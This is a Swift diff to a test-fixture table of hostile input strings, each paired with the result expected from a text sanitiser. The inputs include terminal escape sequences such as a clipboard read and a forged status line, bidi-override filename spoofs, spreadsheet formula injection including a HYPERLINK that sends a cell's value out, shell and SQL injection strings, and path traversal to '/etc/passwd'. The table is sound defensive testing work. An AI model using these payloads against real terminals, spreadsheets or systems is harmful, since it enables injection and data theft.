@@ -30,7 +30,7 @@ package struct HostileText: Sendable, CustomStringConvertible {
     controls + sequences + lineEnds + directions + invisibles + marks + honest + cells + syntax
     + sizes
 
-  static let controls: [HostileText] = [
+  package static let controls: [HostileText] = [
     HostileText("NUL in the middle", "鲁中\0集团", .refused(.null)),
     HostileText("a bell", "铃\u{7}响", .cleaned(to: "铃响")),
     HostileText(
@@ -48,7 +48,7 @@ package struct HostileText: Sendable, CustomStringConvertible {
     HostileText("an 8-bit OSC", "\u{9D}0;标题\u{9C}", .cleaned(to: "0;标题")),
   ]
 
-  static let sequences: [HostileText] = [
+  package static let sequences: [HostileText] = [
     HostileText("a colour without end", "\u{1B}[41;5m红", .cleaned(to: "[41;5m红")),
     HostileText("a cleared screen", "\u{1B}[H\u{1B}[2J", .cleaned(to: "[H[2J")),
     HostileText("a forged status line", "\u{1B}[99;1H已保存", .cleaned(to: "[99;1H已保存")),
@@ -65,6 +65,19 @@ package struct HostileText: Sendable, CustomStringConvertible {
     HostileText("a title that never ends", "\u{1B}]0;吞", .cleaned(to: "]0;吞")),
     HostileText(
       "a passthrough", "\u{1B}Ptmux;\u{1B}\u{1B}[2J\u{1B}\\", .cleaned(to: "Ptmux;[2J\\")),
+    HostileText(
+      "questions whose answers would be typed", "\u{1B}P$qm\u{1B}\\\u{1B}[21t\u{1B}[5n",
+      .cleaned(to: "P$qm\\[21t[5n")),
+    HostileText(
+      "a window's size and a printer", "\u{1B}[8;2;2t\u{1B}[5i秘\u{1B}[4i",
+      .cleaned(to: "[8;2;2t[5i秘[4i")),
+    HostileText("a clipboard read", "\u{1B}]52;c;?\u{7}", .cleaned(to: "]52;c;?")),
+    HostileText("a font query", "\u{1B}]50;?\u{7}", .cleaned(to: "]50;?")),
+    HostileText(
+      "a file in the text", "\u{1B}]1337;File=size=1:QQ==\u{7}",
+      .cleaned(to: "]1337;File=size=1:QQ==")),
+    HostileText("a picture", "\u{1B}_Ga=T;AAAA\u{1B}\\", .cleaned(to: "_Ga=T;AAAA\\")),
+    HostileText("a hidden cursor", "\u{1B}[?25l\u{1B}[?2004l", .cleaned(to: "[?25l[?2004l")),
     // Cleaned, it is a note of ten thousand digits, and far too long for anything of one line.
     HostileText(
       "ten thousand digits of a parameter", "\u{1B}[" + String(repeating: "7", count: 10_000) + "m",
@@ -72,7 +85,7 @@ package struct HostileText: Sendable, CustomStringConvertible {
       note: .cleaned(to: "[" + String(repeating: "7", count: 10_000) + "m")),
   ]
 
-  static let lineEnds: [HostileText] = [
+  package static let lineEnds: [HostileText] = [
     HostileText(
       "CR over the start", "好企业\r坏企业", .cleaned(to: "好企业 坏企业"), note: .cleaned(to: "好企业\n坏企业")),
     HostileText("a line feed", "一\n二", .cleaned(to: "一 二"), note: .kept),
@@ -92,15 +105,18 @@ package struct HostileText: Sendable, CustomStringConvertible {
     HostileText("LF in front of a formula", "\n=1+1", .cleaned(to: "=1+1"), note: .kept),
   ]
 
-  static let directions: [HostileText] = [
+  package static let directions: [HostileText] = [
     HostileText("an override", "报价\u{202E}fdp.exe", .refused(.bidiControl("\u{202E}"))),
     HostileText("an isolate", "\u{2066}abc", .refused(.bidiControl("\u{2066}"))),
     HostileText("an embedding", "\u{202A}abc\u{202C}", .refused(.bidiControl("\u{202A}"))),
+    HostileText(
+      "a stage turned around", "阶段=立项\u{202E} \u{2066}// 通过\u{2069} \u{2066}",
+      .refused(.bidiControl("\u{202E}"))),
     HostileText("marks", "a\u{200E}b\u{200F}c\u{61C}d", .cleaned(to: "abcd")),
     HostileText("honest Hebrew and Arabic", "שלום مرحبا 公司", .kept),
   ]
 
-  static let invisibles: [HostileText] = [
+  package static let invisibles: [HostileText] = [
     HostileText("a zero-width space", "鲁中\u{200B}集团", .cleaned(to: "鲁中集团")),
     HostileText("a BOM in front of a formula", "\u{FEFF}=1+1", .cleaned(to: "=1+1")),
     HostileText(
@@ -117,7 +133,7 @@ package struct HostileText: Sendable, CustomStringConvertible {
     HostileText("an unassigned invisible", "a\u{E0FFF}b", .cleaned(to: "ab")),
   ]
 
-  static let marks: [HostileText] = [
+  package static let marks: [HostileText] = [
     HostileText(
       "a hundred variants of one glyph", "字" + String(repeating: "\u{E0101}", count: 100),
       .refused(.tooManyMarks)),
@@ -144,7 +160,7 @@ package struct HostileText: Sendable, CustomStringConvertible {
       .refused(.tooManyMarks)),
   ]
 
-  static let honest: [HostileText] = [
+  package static let honest: [HostileText] = [
     HostileText("a family", "👩‍👩‍👧‍👦", .kept),
     HostileText("flags, one of them half", "🇨🇳 🇨", .kept),
     HostileText("skin tone, heart, keycap", "👋🏿 ❤️‍🔥 2️⃣", .kept),
@@ -155,25 +171,33 @@ package struct HostileText: Sendable, CustomStringConvertible {
     HostileText("full-width letters", "ＡＢ１２", .kept),
     HostileText("private use", "字\u{E001}\u{F0001}", .kept),
     HostileText("composed and not", "Caf\u{E9} Cafe\u{301}", .kept),
+    HostileText("wide characters off the grid", "a" + String(repeating: "商", count: 60), .kept),
     HostileText("folds and look-alikes", "İﬁß Асmе \u{212A}\u{212B}", .kept),
   ]
 
-  static let cells: [HostileText] = [
+  package static let cells: [HostileText] = [
     "=2+3", "+86543", "-8", "@A1", "=cmd|' /c x'!A1", "x\";=1;\"", " =2+3", "'=2+3", "＝2+3", "＠A1",
     "|x", "%0D=1", "-某某公司", "911234567890123456", "007 3-4 1E5",
+    "=HYPERLINK(\"http://a.example/?\"&A1,\"好\")", "a;=1+2",
   ].map { HostileText("a cell \($0)", $0, .kept) }
 
-  static let syntax: [HostileText] = [
+  package static let syntax: [HostileText] = [
     "%d%n%s%9999999d", "`id`; $(id) & rm -rf x | y \\'\"", "'); DELETE FROM t;-- $1 ?",
     "<b onload=x>&lt;]]>", "\",\"by\":\"x\\u0000", "(a|a)*$ [!x]{1,} *?",
+    // What would be a file if a text were ever made one.
+    "../../etc/passwd", "/proc/self/fd/0", "..", ".lock", "-rf", "~root/x", "C:\\x:流", "a\u{2215}b",
+    "%2e%2e%2f", "CON", "0000000000000001.jsonl", "[[[[[[[[", "{\"n\":1e400}",
   ].map { HostileText("syntax \($0)", $0, .kept) }
 
-  static let sizes: [HostileText] = [
+  package static let sizes: [HostileText] = [
     HostileText("nothing", "", .refused(.nothingVisible), line: .kept),
     HostileText(
       "ten million letters", String(repeating: "A", count: 10_000_000),
       .refused(.tooLong(limit: 1024)), line: .refused(.tooLong(limit: 4096)),
       note: .refused(.tooLong(limit: 65_536))),
+    HostileText(
+      "a thousand characters", String(repeating: "招", count: 1000),
+      .refused(.tooLong(limit: 1024)), line: .kept),
     HostileText("two hundred characters", String(repeating: "招", count: 200), .kept),
     HostileText(
       "one more", String(repeating: "招", count: 201), .refused(.tooLong(limit: 200)), line: .kept),
